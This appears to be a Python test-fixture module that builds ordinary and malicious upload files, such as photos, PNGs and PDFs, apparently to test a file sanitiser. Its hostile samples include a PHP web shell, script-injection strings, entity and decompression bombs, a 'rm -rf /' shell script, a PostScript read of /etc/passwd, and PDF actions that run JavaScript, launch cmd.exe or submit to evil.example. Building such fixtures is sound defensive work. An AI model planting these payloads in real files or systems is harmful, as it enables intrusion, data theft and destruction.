"""Files as people send them, and files made to do harm; all made here, none kept."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

SECRET = b"SECRET-OF-THE-SENDER"
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>alert(document.domain)</script>"
LOCK = pikepdf.Encryption(owner="o", user="u")


def picture(
    form: str, size: tuple[int, int] = (320, 240), mode: str = "RGB", **how: object
) -> bytes:
    out = io.BytesIO()
    colours: dict[str, float | tuple[float, ...]] = {
        "RGB": (200, 30, 30),
        "RGBA": (200, 30, 30, 128),
        "L": 90,
        "1": 1,
        "I;16": 40_000,
    }
    Image.new(mode, size, colours.get(mode)).save(out, form, **how)
    return out.getvalue()


def photo_with_place() -> bytes:
    """A photo lying on its side, with position, maker's note, comment and a thumbnail's tags."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = SECRET.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (31.0, 32.0, 59.0), 3: "E", 4: (74.0, 20.0, 37.0)})
    return picture("JPEG", exif=exif, comment=SECRET)


def png_with_texts() -> bytes:
    from PIL.PngImagePlugin import PngInfo  # noqa: PLC0415

    info = PngInfo()
    info.add_text("Comment", SECRET.decode())
    info.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    return picture("PNG", pnginfo=info)


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_of(width: int, height: int, pixels: bytes = b"", extra: bytes = b"") -> bytes:
    """A PNG that says it has these sides, whatever it holds."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = _chunk(b"IHDR", head) + extra + _chunk(b"IDAT", zlib.compress(pixels, 9))
    return b"\x89PNG\r\n\x1a\n" + body + _chunk(b"IEND", b"")


def text_bomb() -> bytes:
    packed = zlib.compress(bytes(200 << 20), 9)
    return png_of(1, 1, bytes(4), _chunk(b"zTXt", b"Comment\0\0" + packed))


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("run.php", PHP)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **how: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Contents = Stream(made, b"0 0 m 100 100 l S")
        change(made)
        made.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def _act(script: str = "app.alert(1)") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(script))


def _open_action(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(_act())


def _every_trigger(made: pikepdf.Pdf) -> None:
    made.Root.AA = Dictionary(WC=_act(), DS=_act())
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), _act()])))
    made.pages[0].obj.AA = Dictionary(O=_act())
    made.pages[0].obj.Thumb = Stream(made, SECRET)
    made.Root.Outlines = Dictionary(First=made.make_indirect(Dictionary(Title="x", A=_act())))


def _links(made: pikepdf.Pdf) -> None:
    acts = [
        Dictionary(S=Name.URI, URI=String("https://evil.example/")),
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.GoToR, F=String("//evil/share")),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        Dictionary(S=Name.ImportData, F=String("x.fdf")),
    ]
    made.pages[0].obj.Annots = Array(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 600, 850], A=act) for act in acts
    )


def _attachment(made: pikepdf.Pdf) -> None:
    made.attachments["run.exe"] = b"MZ" + SECRET
    spec = Dictionary(Type=Name.Filespec, EF=Dictionary(F=Stream(made, SECRET)))
    made.pages[0].obj.AF = Array([made.make_indirect(spec)])
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=spec, Rect=[0, 0, 9, 9])
    made.pages[0].obj.Annots = Array([note])


def _form(made: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("x"), AA=Dictionary(K=_act()), Subtype=Name.Widget)
    made.Root.AcroForm = Dictionary(
        Fields=Array([made.make_indirect(field)]), XFA=Stream(made, SCRIPT), NeedAppearances=True
    )


def _outside(made: pikepdf.Pdf) -> None:
    drawing = Stream(made, b"")
    drawing.stream_dict = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 9, 9],
        Ref=Dictionary(F=String("//evil/x.pdf"), Page=0),
        OPI=Dictionary(),
        PieceInfo=Dictionary(X=Dictionary(Private=_act())),
        Metadata=Stream(made, SECRET),
    )
    far = Stream(made, b"")
    far.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, F=String("https://evil.example/")
    )
    script = Stream(made, b"(/etc/passwd) run")
    script.stream_dict = Dictionary(Type=Name.XObject, Subtype=Name.PS)
    resources = Dictionary(XObject=Dictionary(A=drawing, B=far, C=script))
    resources.Properties = Dictionary(P=_act(), Q=Array([_act(), Dictionary(AA=_act())]))
    made.pages[0].obj.Resources = resources


def _metadata(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = String(SECRET.decode())
    made.Root.Metadata = Stream(made, SECRET)
    made.pages[0].obj.Metadata = Stream(made, SECRET)


def _media(made: pikepdf.Pdf) -> None:
    film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, RichMediaContent=Dictionary())
    sound = Dictionary(Type=Name.Annot, Subtype=Name.Screen, A=Dictionary(S=Name.Rendition))
    made.pages[0].obj.Annots = Array([film, sound])


ARMED = {
    "script on opening": _open_action,
    "scripts on every trigger": _every_trigger,
    "links that start and send": _links,
    "attachments": _attachment,
    "a form with scripts": _form,
    "content from elsewhere": _outside,
    "metadata": _metadata,
    "films and sounds": _media,
}


def filled_form() -> bytes:
    """A form whose field's answer is drawn by the field itself."""

    def change(made: pikepdf.Pdf) -> None:
        look = Stream(made, b"BT /F 12 Tf (ANSWER) Tj ET")
        look.stream_dict = Dictionary(
            Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 100, 20], Resources=Dictionary()
        )
        field = Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), F=4,
            V=String("ANSWER"), Rect=[10, 10, 110, 30], AP=Dictionary(N=look),
        )  # fmt: skip
        indirect = made.make_indirect(field)
        made.pages[0].obj.Annots = Array([indirect])
        made.Root.AcroForm = Dictionary(Fields=Array([indirect]))

    return pdf(change)


def pdf_bomb(layers: int = 1, size: int = 700 << 20) -> bytes:
    """A page whose content unpacks to ``size`` bytes, packed ``layers`` times."""
    engine = zlib.compressobj(9)
    packed = b"".join(engine.compress(bytes(1 << 20)) for _ in range(size >> 20)) + engine.flush()
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)

    def change(made: pikepdf.Pdf) -> None:
        content = Stream(made, b"")
        content.write(packed, filter=Array([Name.FlateDecode] * layers))
        made.pages[0].obj.Contents = content

    return pdf(change)


def wide_pdf_image() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        image = Stream(made, b"x")
        image.stream_dict = Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=100_000, Height=100_000
        )
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=image))

    return pdf(change)


def many_pages(count: int) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        for _ in range(count - 1):
            made.add_blank_page()

    return pdf(change)


def page_in_itself() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9/Parent 2 0 R>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def deep_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/MediaBox[0 0 9 9]/Resources "
        + b"[" * 60_000
        + b"]" * 60_000
        + b">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


NOT_PHOTOS_NOR_PDF = {
    "nothing": b"",
    "one byte": b"\xff",
    "a script page": b"<!doctype html>" + SCRIPT,
    "a drawing with a script": b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    "a drawing declared as XML": b"<?xml version='1.0'?><svg onload='alert(1)'/>",
    "an entity bomb": b"<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><x>&b;</x>",
    "a server script": PHP,
    "an archive": archive(),
    "an archive before a PDF": archive() + pdf(),
    "a Windows program": b"MZ" + bytes(200),
    "a Linux program": b"\x7fELF" + bytes(200),
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "an animation with a script": b"GIF89a=1;alert(1)//" + bytes(50),
    "a bitmap": picture("BMP"),
    "a TIFF": picture("TIFF"),
    "an iPhone's own format": b"\x00\x00\x00\x18ftypheic" + bytes(100),
    "a film": b"\x00\x00\x00\x20ftypisom" + bytes(100),
    "PostScript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
    "half a PNG's name": b"\x89PNG\r\n",
    "a WAV that begins like WebP": b"RIFF\x24\x00\x00\x00WAVE" + bytes(50),
    "a PDF that begins late": b"x" * 100 + pdf(),
}
BROKEN = {
    "the first bytes of a JPEG": b"\xff\xd8\xff\xe0",
    "half a JPEG": picture("JPEG", (900, 900))[:3000],
    "a JPEG name and a script": b"\xff\xd8\xff" + PHP,
    "half a PNG": picture("PNG", (900, 900))[:200],
    "a PNG without pixels": png_of(100, 100),
    "a PNG with a bomb of words": text_bomb(),
    "half a WebP": picture("WEBP")[:40],
    "a WebP name and nothing": b"RIFF\x10\x00\x00\x00WEBP" + bytes(8),
    "the name of a PDF": b"%PDF-1.7\n",
    "a PDF name and a script": b"%PDF-1.7\n" + SCRIPT,
    "a PDF without pages": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>",
    "a page in itself": page_in_itself(),
    "a thousand brackets": deep_pdf(),
    "a PDF bomb": pdf_bomb(),
    "a PDF bomb packed twice": pdf_bomb(layers=2),
}
POLYGLOTS = {
    "a photo and an archive": picture("JPEG") + archive(),
    "a photo and a script page": picture("JPEG") + SCRIPT,
    "a photo with a server script inside": picture("JPEG", comment=PHP),
    "a picture with a server script behind": picture("PNG") + PHP,
    "a picture with a script in its words": png_with_texts(),
    "a picture with a bomb behind its one pixel": png_of(1, 1, bytes(50 << 20)),
    "a WebP and a PDF": picture("WEBP") + pdf(),
    "a PDF and an archive": pdf() + archive(),
    "a PDF and a script page": pdf() + SCRIPT,
}
HONEST = {
    "a photo": picture("JPEG"),
    "a photo of 12 megapixels": picture("JPEG", (4000, 3000)),
    "a photo for print": picture("JPEG", mode="CMYK"),
    "a photo in grey": picture("JPEG", mode="L"),
    "a photo with its place": photo_with_place(),
    "a photo shown in steps": picture("JPEG", progressive=True),
    "a screenshot": picture("PNG"),
    "a screenshot with glass": picture("PNG", mode="RGBA"),
    "a picture of few colours": picture("PNG", mode="P", transparency=0),
    "a scan in black and white": picture("PNG", mode="1"),
    "a scan of 16 bits": picture("PNG", mode="I;16"),
    "a WebP": picture("WEBP"),
    "a WebP with glass": picture("WEBP", mode="RGBA"),
    "a PDF": pdf(),
    "a PDF after a mark of order": b"\xef\xbb\xbf" + pdf(),
    "a PDF packed tightly": pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "a PDF of 100 pages": many_pages(100),
    "a filled form": filled_form(),
}
